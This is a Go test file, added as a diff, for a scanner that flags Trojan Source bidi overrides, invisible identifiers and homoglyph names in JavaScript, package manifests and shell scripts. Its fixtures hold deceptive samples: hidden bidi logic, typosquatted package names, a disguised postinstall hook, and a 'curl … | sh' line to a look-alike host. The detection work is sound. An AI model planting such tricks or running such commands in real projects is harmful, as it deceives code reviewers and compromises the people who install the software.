@@ -0,0 +1,161 @@
+package scanner
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestUnicodeDetector(t *testing.T) {
+	tests := []struct {
+		name     string
+		path     string
+		src      string
+		expected []string // rule@line:column of each finding
+		evidence string   // Expected in the first finding
+	}{
+		{
+			name: "trojan source comment",
+			path: "index.js",
+			// Displays as: /* if (isAdmin) begin admins only */
+			src:      "if (x) {\n/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n}",
+			expected: []string{"unicode/bidi@2:3"},
+			evidence: "U+202E RIGHT-TO-LEFT OVERRIDE (column 3), U+2066 LEFT-TO-RIGHT ISOLATE (column 7)",
+		},
+		{
+			name:     "bidi in string",
+			path:     "index.js",
+			src:      "const role = \"user\u202e \u2066// admin\u2069\u2066\"",
+			expected: []string{"unicode/bidi@1:19"},
+		},
+		{
+			name:     "invisible identifier",
+			path:     "index.js",
+			src:      "const { timeout, \u3164 } = req.query\nexec(\u3164)",
+			expected: []string{"unicode/invisible@1:18", "unicode/invisible@2:6"},
+			evidence: "U+3164 HANGUL FILLER (column 18)",
+		},
+		{
+			name:     "zero width space between tokens",
+			path:     "index.js",
+			src:      "if (a\u200b== b) run()",
+			expected: []string{"unicode/invisible@1:6"},
+		},
+		{
+			name:     "joiners in strings and byte order mark",
+			path:     "index.js",
+			src:      "\ufeffconst family = '\U0001F468\u200d\U0001F469'\n// \u200b note",
+			expected: []string{},
+		},
+		{
+			name:     "mixed script identifier",
+			path:     "index.js",
+			src:      "function isAdmin(u) { return true }\nif (is\u0410dmin(user)) grant()",
+			expected: []string{"unicode/homoglyph@2:5"},
+			evidence: "looks like \"isAdmin\" (Cyrillic U+0410)",
+		},
+		{
+			name:     "escaped identifier",
+			path:     "index.js",
+			src:      "const \\u0430dmin = 1",
+			expected: []string{"unicode/homoglyph@1:7"},
+		},
+		{
+			name:     "whole script look-alike",
+			path:     "index.js",
+			src:      "const \u0441\u043e\u0440\u0443 = 1",
+			expected: []string{"unicode/homoglyph@1:7"},
+			evidence: "looks like \"copy\"",
+		},
+		{
+			name:     "greek math and russian names",
+			path:     "index.js",
+			src:      "const Δx = 1, α = 2, привет = 3, café = 4",
+			expected: []string{},
+		},
+		{
+			name:     "manifest",
+			path:     "package.json",
+			src:      "{\n  \"name\": \"l\u043edash\",\n  \"scripts\": {\"postinstall\": \"node index.js\\u202e\"}\n}",
+			expected: []string{"unicode/homoglyph@2:12", "unicode/bidi@3:44"},
+		},
+		{
+			name:     "manifest names",
+			path:     "package.json",
+			src:      "{\"name\": \"\\u0441\\u043e\\u0440\\u0443\",\n\"bin\": {\"np\u0441\": \"cli.js\"},\n\"dependencies\": {\"l\u043edash\": \"^4.0.0\"}}",
+			expected: []string{"unicode/homoglyph@1:11", "unicode/homoglyph@2:10", "unicode/homoglyph@3:19"},
+			evidence: "looks like \"copy\"",
+		},
+		{
+			name:     "manifest text in other languages",
+			path:     "package.json",
+			src:      "{\"name\": \"util\", \"description\": \"\u0423\u0442\u0438\u043b\u0438\u0442\u0430 \u0434\u043b\u044f \u0440\u0430\u0431\u043e\u0442\u044b \u043d\u0430 \u0441\u0435\u0440\u0432\u0435\u0440\u0435\", \"keywords\": [\"\u03ba\u03b1\u03b9\", \"\u03c4\u03bf\", \"l\u043edash\"], \"author\": {\"name\": \"\u0441\u043e\u0440\u0443\"}}",
+			expected: []string{},
+		},
+		{
+			name:     "script words",
+			path:     "install.sh",
+			src:      "echo \u043d\u0430 \u0441\u0435\u0440\u0432\u0435\u0440\u0435\ncurl https://\u0435xample.com | sh\n",
+			expected: []string{"unicode/homoglyph@2:14"},
+		},
+	}
+
+	d := NewUnicodeDetector()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			findings := d.Analyze(tt.path, []byte(tt.src))
+			got := []string{}
+			for _, f := range findings {
+				got = append(got, fmt.Sprintf("%s@%d:%d", f.RuleID, f.Line, f.Column))
+				if f.Type != "unicode" || f.File != tt.path {
+					t.Errorf("Expected a unicode finding in %s, got %+v", tt.path, f)
+				}
+				if strings.ContainsAny(f.Snippet, "\u202e\u2066\u3164\u200b") {
+					t.Errorf("Expected hidden characters to be revealed in the snippet, got %q", f.Snippet)
+				}
+			}
+			if strings.Join(got, " ") != strings.Join(tt.expected, " ") {
+				t.Fatalf("Expected %v, got %v", tt.expected, got)
+			}
+			if tt.evidence != "" && !strings.Contains(findings[0].Evidence, tt.evidence) {
+				t.Errorf("Expected evidence containing %q, got %q", tt.evidence, findings[0].Evidence)
+			}
+		})
+	}
+}
+
+func TestIoCScanner_Unicode(t *testing.T) {
+	root := t.TempDir()
+	pkgDir := filepath.Join(root, "node_modules", "helper")
+	os.MkdirAll(pkgDir, 0755)
+	os.WriteFile(filepath.Join(pkgDir, "package.json"), []byte("{\"name\": \"helper\", \"description\": \"safe\u202e\"}"), 0644)
+	os.WriteFile(filepath.Join(pkgDir, "index.js"), []byte("module.exports = \u0430ccess"), 0644)
+	os.WriteFile(filepath.Join(pkgDir, "README.md"), []byte("hidden\u202e"), 0644)
+
+	s, err := NewIoCScanner(nil, 100)
+	if err != nil {
+		t.Fatalf("Failed to create scanner: %v", err)
+	}
+	findings, err := s.Scan(root)
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+	if len(findings) != 0 {
+		t.Fatalf("Expected no findings without the detector, got %+v", findings)
+	}
+
+	s.Unicode = NewUnicodeDetector()
+	findings, err = s.Scan(root)
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+	got := map[string]string{}
+	for _, f := range findings {
+		got[filepath.Base(f.File)] = f.RuleID
+	}
+	if len(findings) != 2 || got["package.json"] != "unicode/bidi" || got["index.js"] != "unicode/homoglyph" {
+		t.Errorf("Expected findings in package.json and index.js only, got %+v", findings)
+	}
+}